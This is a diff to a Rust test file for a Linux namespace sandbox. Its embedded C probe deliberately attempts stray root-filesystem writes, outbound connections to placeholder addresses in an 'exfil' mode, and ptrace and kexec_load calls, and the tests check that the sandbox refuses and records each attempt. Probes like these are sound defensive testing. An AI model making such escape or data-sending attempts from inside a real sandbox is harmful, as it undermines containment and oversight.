@@ -15,7 +15,10 @@ const PROBE_C: &str = r#"
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 static void cat(const char *path) {
@@ -38,6 +41,10 @@ int main(int argc, char **argv) {
     for (int i = 2; i < argc; i++) cat(argv[i]);
     int w = open("/data/written.txt", O_WRONLY | O_CREAT, 0644);
     printf("data write: %s\n", w >= 0 ? "ok" : strerror(errno));
+    int md = mkdir("/stray-dir", 0755);
+    printf("rootfs mkdir: %s\n", md == 0 ? "ALLOWED" : strerror(errno));
+    int dd = mkdir("/data/newdir", 0755);
+    printf("data mkdir: %s\n", dd == 0 ? "ok" : strerror(errno));
     int m = mount("none", "/tmp", "tmpfs", 0, NULL);
     printf("mount: %s\n", m == 0 ? "ALLOWED" : strerror(errno));
     cat("/proc/self/cgroup");
@@ -52,6 +59,38 @@ int main(int argc, char **argv) {
     inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
     int c = connect(s, (struct sockaddr *)&a, sizeof a);
     printf("connect: %s\n", c == 0 ? "CONNECTED" : strerror(errno));
+    return 0;
+  }
+  if (argc > 1 && !strcmp(argv[1], "exfil")) {
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = {0};
+    a.sin_family = AF_INET;
+    a.sin_port = htons(80);
+    inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
+    int c = connect(s, (struct sockaddr *)&a, sizeof a);
+    printf("connect out: %s\n", c == 0 ? "CONNECTED" : strerror(errno));
+    int u = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in d = {0};
+    d.sin_family = AF_INET;
+    d.sin_port = htons(53);
+    inet_pton(AF_INET, "198.51.100.9", &d.sin_addr);
+    ssize_t n = sendto(u, "hello", 5, 0, (struct sockaddr *)&d, sizeof d);
+    printf("sendto out: %s\n", n >= 0 ? "SENT" : strerror(errno));
+    struct sockaddr_in l = {0};
+    l.sin_family = AF_INET;
+    l.sin_port = htons(9);
+    inet_pton(AF_INET, "127.0.0.1", &l.sin_addr);
+    int s2 = socket(AF_INET, SOCK_STREAM, 0);
+    int c2 = connect(s2, (struct sockaddr *)&l, sizeof l);
+    printf("connect loopback: %s\n", c2 == 0 ? "CONNECTED" : strerror(errno));
+    return 0;
+  }
+  if (argc > 1 && !strcmp(argv[1], "admin")) {
+    long p = ptrace(PTRACE_TRACEME, 0, NULL, NULL);
+    printf("ptrace: %s\n", p == 0 ? "ALLOWED" : strerror(errno));
+    long k = syscall(SYS_kexec_load, 0x1234UL, 0UL, NULL, 0UL);
+    printf("kexec_load: %s\n", k == 0 ? "ALLOWED" : strerror(errno));
+    k = syscall(SYS_kexec_load, 0x5678UL, 0UL, NULL, 0UL);
     return 0;
   }
   return 2;
@@ -77,6 +116,7 @@ fn spec(dir: &Path, root: &Path, data: Option<&Path>, argv: &[&str]) -> SandboxS
         env: vec![("PATH".into(), "/".into())],
         hostname: "ferry-sbx".into(),
         limits: ResourceLimits::default(),
+        stubs: Vec::new(),
     }
 }
 
@@ -108,7 +148,8 @@ fn sandboxed_process_cannot_read_outside_its_root() {
     let data_copy = child.data_copy.clone().unwrap();
     let cgroup = child.isolation.cgroup.clone();
     println!("{:#?}", child.isolation);
-    let out = child.wait_with_output(Duration::from_secs(30)).unwrap();
+    let (out, report) = child.wait_with_report(Duration::from_secs(30)).unwrap();
+    println!("{report:#?}");
     let stdout = String::from_utf8_lossy(&out.stdout);
     println!("{stdout}");
     assert!(
@@ -142,6 +183,11 @@ fn sandboxed_process_cannot_read_outside_its_root() {
     );
     assert!(stdout.contains("data write: ok"));
     assert!(
+        stdout.contains("rootfs mkdir: Permission denied"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("data mkdir: ok"), "{stdout}");
+    assert!(
         data_copy.join("written.txt").exists(),
         "writes land in the copy"
     );
@@ -158,7 +204,222 @@ fn sandboxed_process_cannot_read_outside_its_root() {
             stdout.contains("ferry-sandbox-"),
             "the process runs in its cgroup ({cgroup}): {stdout}"
         );
+        assert!(
+            report.peak_memory_bytes.is_some_and(|b| b > 0),
+            "{report:#?}"
+        );
     }
+    // The monitor saw the refused mount and the write attempt on the root filesystem, and
+    // nothing of the writes to /data.
+    assert_eq!(report.monitor_error, None);
+    let mount = report
+        .denied_syscalls
+        .iter()
+        .find(|d| d.name == "mount")
+        .unwrap_or_else(|| panic!("mount not recorded: {report:#?}"));
+    assert_eq!(mount.count, 1);
+    let stray: Vec<&str> = report
+        .stray_writes
+        .iter()
+        .map(|w| w.path.as_str())
+        .collect();
+    assert_eq!(stray, ["/rootfs-write.txt", "/stray-dir"], "{report:#?}");
+    assert_eq!(report.exit.as_deref(), Some("exited with status 0"));
+    assert!(!report.crashed);
+    assert!(report.is_suspicious(), "a stray write is suspicious");
+}
+
+#[test]
+fn outbound_connection_attempts_are_recorded_with_their_address_and_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = rootfs(dir.path());
+    let child = NamespaceSandbox
+        .start(&spec(dir.path(), &root, None, &["/probe", "exfil"]))
+        .unwrap();
+    let (out, report) = child.wait_with_report(Duration::from_secs(30)).unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    println!("{stdout}\n{report:#?}");
+    assert!(out.status.success(), "{stdout}");
+    assert!(
+        stdout.contains("connect out: Connection refused"),
+        "the program gets an error: {stdout}"
+    );
+    assert!(
+        stdout.contains("sendto out: Network is unreachable"),
+        "{stdout}"
+    );
+    // Loopback goes ahead (nothing listens there: refused by the kernel, not recorded).
+    assert!(
+        stdout.contains("connect loopback: Connection refused"),
+        "{stdout}"
+    );
+    let seen: Vec<(&str, &str, u64, u64)> = report
+        .outbound
+        .iter()
+        .map(|o| (o.syscall.as_str(), o.address.as_str(), o.count, o.bytes))
+        .collect();
+    assert_eq!(
+        seen,
+        [
+            ("connect", "203.0.113.7:80", 1, 0),
+            ("sendto", "198.51.100.9:53", 1, 5)
+        ],
+        "{report:#?}"
+    );
+    assert!(report.is_suspicious());
+}
+
+#[test]
+fn refused_system_calls_are_recorded_with_count_and_first_arguments() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = rootfs(dir.path());
+    let child = NamespaceSandbox
+        .start(&spec(dir.path(), &root, None, &["/probe", "admin"]))
+        .unwrap();
+    let (out, report) = child.wait_with_report(Duration::from_secs(30)).unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    println!("{stdout}\n{report:#?}");
+    assert!(
+        stdout.contains("ptrace: Operation not permitted"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains("kexec_load: Operation not permitted"),
+        "{stdout}"
+    );
+    let kexec = report
+        .denied_syscalls
+        .iter()
+        .find(|d| d.name == "kexec_load")
+        .unwrap_or_else(|| panic!("kexec_load not recorded: {report:#?}"));
+    assert_eq!(kexec.count, 2);
+    assert_eq!(kexec.first_args[0], "0x1234");
+    assert!(
+        report.denied_syscalls.iter().any(|d| d.name == "ptrace"),
+        "{report:#?}"
+    );
+    assert!(
+        report.outbound.is_empty() && report.stray_writes.is_empty(),
+        "{report:#?}"
+    );
+    assert!(
+        !report.is_suspicious(),
+        "refused calls alone are not unsafe"
+    );
+}
+
+/// busybox (static) for shell scripts in a sandbox; `None` (with a loud message) where it is
+/// missing, a failure when FERRY_REQUIRE_SERVICES=1.
+fn busybox() -> Option<std::path::PathBuf> {
+    let path = std::path::PathBuf::from("/bin/busybox");
+    let static_elf = std::fs::read(&path).is_ok_and(|bytes| {
+        goblin::elf::Elf::parse(&bytes).is_ok_and(|elf| elf.interpreter.is_none())
+    });
+    if path.exists() && static_elf {
+        return Some(path);
+    }
+    let msg = "a static /bin/busybox is needed (apt-get install busybox-static)";
+    if std::env::var("FERRY_REQUIRE_SERVICES").as_deref() == Ok("1") {
+        panic!("{msg}");
+    }
+    eprintln!("SKIPPED: {msg}");
+    None
+}
+
+#[test]
+fn stub_hardware_shows_the_host_what_a_shell_script_did() {
+    use ferry_sandbox::sandbox::HardwareStub;
+    let Some(bb) = busybox() else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let root = rootfs(dir.path());
+    std::fs::create_dir_all(root.join("bin")).unwrap();
+    std::fs::copy(&bb, root.join("bin/busybox")).unwrap();
+    let script = "echo hello-uart > /dev/ttyS0; \
+                  echo out > /sys/class/gpio/gpio17/direction; \
+                  echo 1 > /sys/class/gpio/gpio17/value; \
+                  echo 0 > /sys/class/gpio/gpio17/value; \
+                  echo 1 > /sys/class/gpio/gpio17/value; \
+                  echo 255 > /sys/class/leds/status/brightness; \
+                  echo ABCD | /bin/busybox dd of=/dev/mtd0 conv=notrunc 2>/dev/null; \
+                  cat /sys/class/gpio/gpio17/value; \
+                  exec 3<>/dev/ttyS1; printf ping >&3; /bin/busybox head -c 4 <&3";
+    let mut s = spec(
+        dir.path(),
+        &root,
+        None,
+        &["/bin/busybox", "sh", "-c", script],
+    );
+    s.stubs = vec![
+        HardwareStub::Serial {
+            path: "/dev/ttyS0".into(),
+            echo: false,
+        },
+        HardwareStub::Serial {
+            path: "/dev/ttyS1".into(),
+            echo: true,
+        },
+        HardwareStub::Gpio { pins: vec![17, 18] },
+        HardwareStub::Led {
+            names: vec!["status".into()],
+        },
+        HardwareStub::File {
+            path: "/dev/mtd0".into(),
+            size: 4096,
+        },
+    ];
+    let child = NamespaceSandbox.start(&s).unwrap();
+    let monitor = child.monitor().unwrap();
+    let (out, _) = child.wait_with_report(Duration::from_secs(30)).unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{stdout}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        stdout.trim(),
+        "1\nping",
+        "the script reads back its GPIO, and its echo from the loopback serial port"
+    );
+    // The host side of the serial port reads asynchronously: give it a moment.
+    let deadline = std::time::Instant::now() + Duration::from_secs(5);
+    let report = loop {
+        let r = monitor.report();
+        if r.stubs.serial.first().is_some_and(|s| s.bytes >= 11)
+            || std::time::Instant::now() > deadline
+        {
+            break r;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    println!("{report:#?}");
+    let serial = &report.stubs.serial[0];
+    assert_eq!(serial.path, "/dev/ttyS0");
+    assert!(serial.output.contains("hello-uart"), "{serial:?}");
+    assert_eq!(report.stubs.serial[1].output, "ping");
+    let changes: Vec<(&str, &str)> = report
+        .stubs
+        .attributes
+        .iter()
+        .map(|c| (c.path.as_str(), c.value.as_str()))
+        .collect();
+    assert_eq!(
+        changes,
+        [
+            ("/sys/class/gpio/gpio17/direction", "out"),
+            ("/sys/class/gpio/gpio17/value", "1"),
+            ("/sys/class/gpio/gpio17/value", "0"),
+            ("/sys/class/gpio/gpio17/value", "1"),
+            ("/sys/class/leds/status/brightness", "255"),
+        ]
+    );
+    assert_eq!(report.stubs.files[0].path, "/dev/mtd0");
+    assert_eq!(report.stubs.files[0].size, 4096);
+    assert_eq!(report.stubs.files[0].bytes_changed, 5, "ABCD and a newline");
+    assert!(
+        report.stray_writes.is_empty(),
+        "stub writes are not stray: {report:#?}"
+    );
 }
 
 #[test]
